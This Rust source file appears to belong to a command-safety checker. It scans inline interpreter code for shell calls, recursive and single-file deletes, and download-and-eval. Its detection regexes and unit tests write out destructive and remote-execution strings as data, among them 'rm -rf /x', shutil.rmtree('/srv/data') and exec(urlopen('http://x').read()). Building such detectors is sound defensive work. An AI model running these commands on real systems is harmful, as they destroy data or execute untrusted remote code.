//! Interpreters (`python -c`, `perl -e`, `node -e`, awk programs, …): their command-line
//! options, and a light look into their code for shell commands it runs (`os.system("…")`,
//! `subprocess.run([...])`, `execSync('…')`, backticks), recursive deletes and download-and-eval.
//! This is not a parser for those languages; it finds string literals passed to well-known APIs.

use std::sync::OnceLock;

use regex::Regex;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Lang {
    Python,
    Perl,
    Ruby,
    Node,
    Php,
    Lua,
    Deno,
    Awk,
}

/// How an interpreter takes inline code on its command line.
pub(super) struct Spec {
    /// Short options whose value is code (`-c`, `-e`); for awk, `-f` (handled as a script).
    pub code_short: &'static str,
    pub code_long: &'static [&'static str],
    /// Other short options that take a value.
    pub val_short: &'static str,
    pub val_long: &'static [&'static str],
    /// `python -m module`.
    pub module_short: Option<char>,
    /// Python stops option parsing at `-c`; Perl and Ruby accept several `-e`.
    pub code_ends_options: bool,
}

pub(super) fn lang_of(name: &str) -> Option<Lang> {
    let stem = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    Some(match stem {
        "python" | "pypy" | "python-dbg" => Lang::Python,
        "perl" => Lang::Perl,
        "ruby" | "jruby" | "truffleruby" => Lang::Ruby,
        "node" | "nodejs" => Lang::Node,
        "php" | "php-cli" => Lang::Php,
        "lua" | "luajit" => Lang::Lua,
        "deno" => Lang::Deno,
        "awk" | "gawk" | "mawk" | "nawk" | "busybox-awk" => Lang::Awk,
        _ => return None,
    })
}

pub(super) fn spec(lang: Lang) -> Spec {
    match lang {
        Lang::Python => Spec {
            code_short: "c",
            code_long: &[],
            val_short: "WXQ",
            val_long: &["check-hash-based-pycs"],
            module_short: Some('m'),
            code_ends_options: true,
        },
        Lang::Perl => Spec {
            code_short: "eE",
            code_long: &[],
            val_short: "",
            val_long: &[],
            module_short: None,
            code_ends_options: false,
        },
        Lang::Ruby => Spec {
            code_short: "e",
            code_long: &[],
            val_short: "rICEF",
            val_long: &[
                "encoding",
                "external-encoding",
                "internal-encoding",
                "enable",
                "disable",
            ],
            module_short: None,
            code_ends_options: false,
        },
        Lang::Node | Lang::Deno => Spec {
            code_short: "ep",
            code_long: &["eval", "print"],
            val_short: "rC",
            val_long: &[
                "require",
                "import",
                "input-type",
                "conditions",
                "loader",
                "env-file",
                "title",
            ],
            module_short: None,
            code_ends_options: true,
        },
        Lang::Php => Spec {
            code_short: "rBRE",
            code_long: &[],
            val_short: "dcfzt",
            val_long: &[],
            module_short: None,
            code_ends_options: true,
        },
        Lang::Lua => Spec {
            code_short: "e",
            code_long: &[],
            val_short: "l",
            val_long: &[],
            module_short: None,
            code_ends_options: false,
        },
        Lang::Awk => Spec {
            code_short: "f",
            code_long: &[],
            val_short: "vFE",
            val_long: &[
                "assign",
                "field-separator",
                "file",
                "include",
                "load",
                "source",
            ],
            module_short: None,
            code_ends_options: false,
        },
    }
}

fn exec_call_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(
            r"(?x)
            \b(?:
                os\.system | os\.popen | os\.spawn\w* | os\.exec\w* | pty\.spawn | commands\.getoutput
              | subprocess\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput)
              | (?:child_process\.)?(?:execSync|execFileSync|exec|execFile|spawn|spawnSync)
              | Kernel\.system | IO\.popen | Open3\.\w+ | system | popen | shell_exec | passthru | proc_open
            )\s*\(?\s*",
        )
        .unwrap_or_else(|_| Regex::new("$^").expect("trivial regex"))
    })
}

/// String literals at `s` (after a call's open paren): one literal, or a list of literals
/// joined by spaces (`["rm", "-rf", "/x"]`).
fn literal_args(s: &str) -> Option<String> {
    let s = s.trim_start();
    if let Some(list) = s.strip_prefix('[') {
        let mut parts = Vec::new();
        let mut rest = list;
        loop {
            rest = rest.trim_start();
            if rest.starts_with(']') || rest.is_empty() {
                break;
            }
            let (lit, after) = string_literal(rest)?;
            parts.push(lit);
            rest = after.trim_start();
            rest = rest.strip_prefix(',').unwrap_or(rest);
            if parts.len() > 64 {
                break;
            }
        }
        return (!parts.is_empty()).then(|| parts.join(" "));
    }
    string_literal(s).map(|(lit, _)| lit)
}

/// One quoted literal at the start of `s` (with an optional Python prefix like `r`/`f`/`b`):
/// its unescaped text and the rest of `s`.
fn string_literal(s: &str) -> Option<(String, &str)> {
    let s = s.trim_start_matches(['r', 'b', 'f', 'u', 'R', 'B', 'F', 'U']);
    let q = s.chars().next()?;
    if !matches!(q, '"' | '\'' | '`') {
        return None;
    }
    let triple: String = std::iter::repeat_n(q, 3).collect();
    let (body, close) = if s.starts_with(&triple) {
        (&s[3..], triple.as_str())
    } else {
        (&s[1..], &s[..1])
    };
    let mut out = String::new();
    let mut chars = body.char_indices();
    while let Some((i, c)) = chars.next() {
        if body[i..].starts_with(close) {
            return Some((out, &body[i + close.len()..]));
        }
        if c == '\\' {
            match chars.next() {
                Some((_, 'n')) => out.push('\n'),
                Some((_, 't')) => out.push('\t'),
                Some((_, e)) => out.push(e),
                None => {}
            }
        } else {
            out.push(c);
        }
    }
    None
}

/// Shell command strings the code passes to a shell (at most 16).
pub(super) fn shell_strings(code: &str, lang: Lang) -> Vec<String> {
    let mut out = Vec::new();
    if lang == Lang::Awk {
        awk_strings(code, &mut out);
        return out;
    }
    for m in exec_call_re().find_iter(code) {
        // Python's exec() runs Python, not a shell.
        let callee = m
            .as_str()
            .trim_end_matches(|c: char| c == '(' || c.is_whitespace());
        if lang == Lang::Python && callee == "exec" {
            continue;
        }
        if let Some(s) = literal_args(&code[m.end()..]) {
            out.push(s);
        }
        if out.len() >= 16 {
            return out;
        }
    }
    if matches!(lang, Lang::Perl | Lang::Ruby | Lang::Php) {
        // Backticks, qx{…}, %x(…).
        let mut rest = code;
        while let Some(p) = rest.find('`') {
            let after = &rest[p + 1..];
            let Some(e) = after.find('`') else { break };
            out.push(after[..e].to_owned());
            rest = &after[e + 1..];
            if out.len() >= 16 {
                return out;
            }
        }
        for opener in ["qx", "%x"] {
            let mut rest = code;
            while let Some(p) = rest.find(opener) {
                let after = &rest[p + 2..];
                let Some(open) = after.chars().next() else {
                    break;
                };
                let close = match open {
                    '(' => ')',
                    '{' => '}',
                    '[' => ']',
                    '<' => '>',
                    c if c.is_ascii_punctuation() => c,
                    _ => {
                        rest = after;
                        continue;
                    }
                };
                let body = &after[open.len_utf8()..];
                let Some(e) = body.find(close) else { break };
                out.push(body[..e].to_owned());
                rest = &body[e + close.len_utf8()..];
                if out.len() >= 16 {
                    return out;
                }
            }
        }
    }
    out
}

/// awk: `system("…")`, `"…" | getline`, `print … | "…"`.
fn awk_strings(code: &str, out: &mut Vec<String>) {
    static RE: OnceLock<Regex> = OnceLock::new();
    let re = RE.get_or_init(|| {
        Regex::new(r#"system\s*\(\s*"((?:[^"\\]|\\.)*)"|"((?:[^"\\]|\\.)*)"\s*\|\s*getline|\|&?\s*"((?:[^"\\]|\\.)*)""#)
            .unwrap_or_else(|_| Regex::new("$^").expect("trivial regex"))
    });
    for c in re.captures_iter(code).take(16) {
        if let Some(m) = c.get(1).or_else(|| c.get(2)).or_else(|| c.get(3)) {
            out.push(m.as_str().replace("\\\"", "\"").replace("\\\\", "\\"));
        }
    }
}

/// Targets of recursive-delete APIs (`shutil.rmtree`, `fs.rmSync(…, {recursive})`,
/// `FileUtils.rm_rf`, `File::Path::rmtree`): the literal path, or `None` if computed.
pub(super) fn recursive_deletes(code: &str) -> Vec<Option<String>> {
    static RE: OnceLock<Regex> = OnceLock::new();
    let re = RE.get_or_init(|| {
        Regex::new(
            r"(?x)
            \b(?:
                shutil\.rmtree | rmtree | remove_tree | FileUtils\.(?:rm_rf|rm_r|remove_dir|remove_entry(?:_secure)?)
              | rimraf(?:\.sync)? | (?:fs\.|fsp\.|fs\.promises\.|fse\.)?(?:rmSync|rmdirSync|rm|rmdir|remove|removeSync)
            )\s*\(\s*",
        )
        .unwrap_or_else(|_| Regex::new("$^").expect("trivial regex"))
    });
    let mut out = Vec::new();
    for m in re.find_iter(code).take(16) {
        let name = m.as_str();
        let node_fs = name.contains("rm")
            && !name.contains("rmtree")
            && !name.contains("rm_r")
            && !name.contains("rimraf");
        let fse = name.contains("fse.") || name.contains("remove");
        if node_fs && !fse && !code.contains("recursive") {
            continue;
        }
        // A bare `rm(`/`remove(` is too generic unless it is a known module's.
        if !name.contains('.')
            && matches!(
                name.trim_end_matches(|c: char| c == '(' || c.is_whitespace()),
                "rm" | "rmdir" | "remove"
            )
        {
            continue;
        }
        out.push(string_literal(&code[m.end()..]).map(|(s, _)| s));
    }
    out
}

/// Single files inline code deletes or truncates: (target literal if any, truncates rather than
/// deletes). `os.remove`, `Path(…).unlink`, `File.delete`, Perl's `unlink`, `fs.unlinkSync`,
/// and opening for writing (`open('f', 'w')`).
pub(super) fn file_deletes(code: &str) -> Vec<(Option<String>, bool)> {
    static RE: OnceLock<Regex> = OnceLock::new();
    static OPEN_W: OnceLock<Regex> = OnceLock::new();
    let re = RE.get_or_init(|| {
        Regex::new(
            r"(?x)
              \b(?:
                os\.(?:remove|unlink) | File\.(?:delete|unlink) | FileUtils\.(?:rm_f|rm|remove_file)
              | Files\.delete(?:IfExists)? | unlink
              )\b\s*\(?\s*
            | \.(?:unlinkSync|unlink)\b\s*\(\s*",
        )
        .unwrap_or_else(|_| Regex::new("$^").expect("trivial regex"))
    });
    let open_w = OPEN_W.get_or_init(|| {
        Regex::new(r#"\bopen\s*\(\s*"#).unwrap_or_else(|_| Regex::new("$^").expect("trivial regex"))
    });
    let mut out = Vec::new();
    for m in re.find_iter(code).take(16) {
        out.push((string_literal(&code[m.end()..]).map(|(s, _)| s), false));
    }
    for m in open_w.find_iter(code).take(16) {
        let Some((target, rest)) = string_literal(&code[m.end()..]) else {
            continue;
        };
        let rest = rest.trim_start().trim_start_matches(',').trim_start();
        if let Some((mode, _)) = string_literal(rest) {
            if mode.starts_with('w') {
                out.push((Some(target), true));
            }
        }
    }
    out
}

/// Downloads content and evaluates it (`exec(urlopen(…).read())`, `eval(await fetch…)`).
pub(super) fn remote_exec(code: &str) -> bool {
    static FETCH: OnceLock<Regex> = OnceLock::new();
    static EVAL: OnceLock<Regex> = OnceLock::new();
    let fetch = FETCH.get_or_init(|| {
        Regex::new(
            r#"urlopen|urllib\.request|requests\.(?:get|post)|httpx\.|\bfetch\s*\(|https?\.get\s*\(|Net::HTTP|open-uri|URI\.open|LWP::|HTTP::Tiny|file_get_contents\s*\(\s*['"]https?:|curl_exec"#,
        )
        .unwrap_or_else(|_| Regex::new("$^").expect("trivial regex"))
    });
    let eval = EVAL.get_or_init(|| {
        Regex::new(
            r"(?:^|[^.\w])(?:exec|eval)\s*[\(\$]|new\s+Function\s*\(|instance_eval|class_eval",
        )
        .unwrap_or_else(|_| Regex::new("$^").expect("trivial regex"))
    });
    fetch.is_match(code) && eval.is_match(code)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_shell_strings() {
        let s = shell_strings(r#"import os; os.system("rm -rf /x")"#, Lang::Python);
        assert_eq!(s, vec!["rm -rf /x"]);
        let s = shell_strings(
            r#"import subprocess; subprocess.run(["git", "reset", "--hard"])"#,
            Lang::Python,
        );
        assert_eq!(s, vec!["git reset --hard"]);
        let s = shell_strings(r"require('child_process').execSync('ls -la')", Lang::Node);
        assert_eq!(s, vec!["ls -la"]);
        let s = shell_strings(r"print `whoami`; system 'make'", Lang::Perl);
        assert!(s.contains(&"whoami".to_owned()) && s.contains(&"make".to_owned()));
        let s = shell_strings(r#"BEGIN { system("rm -rf /x") }"#, Lang::Awk);
        assert_eq!(s, vec!["rm -rf /x"]);
        assert!(shell_strings(r#"print("rm -rf /")"#, Lang::Python).is_empty());
        assert!(shell_strings(r#"exec("print('x')")"#, Lang::Python).is_empty());
    }

    #[test]
    fn finds_single_file_deletes_and_truncations() {
        assert_eq!(
            file_deletes("import os; os.remove('notes.txt')"),
            vec![(Some("notes.txt".into()), false)]
        );
        assert_eq!(
            file_deletes("require('fs').unlinkSync('src/a.ts')"),
            vec![(Some("src/a.ts".into()), false)]
        );
        assert_eq!(
            file_deletes("unlink \"notes.txt\""),
            vec![(Some("notes.txt".into()), false)]
        );
        assert_eq!(
            file_deletes("open('notes.txt', 'w').write('')"),
            vec![(Some("notes.txt".into()), true)]
        );
        assert!(file_deletes("open('notes.txt').read()").is_empty());
        assert!(file_deletes("FileUtils.rm_rf('target')").is_empty());
    }

    #[test]
    fn finds_recursive_deletes_and_remote_exec() {
        assert_eq!(
            recursive_deletes("import shutil; shutil.rmtree('/srv/data')"),
            vec![Some("/srv/data".to_owned())]
        );
        assert_eq!(
            recursive_deletes("fs.rmSync(p, {recursive: true})"),
            vec![None]
        );
        assert!(recursive_deletes("fs.rmSync('a.txt')").is_empty());
        assert!(remote_exec(
            "import urllib.request as u; exec(u.urlopen('http://x').read())"
        ));
        assert!(!remote_exec("import json; print(json.dumps({}))"));
    }
}
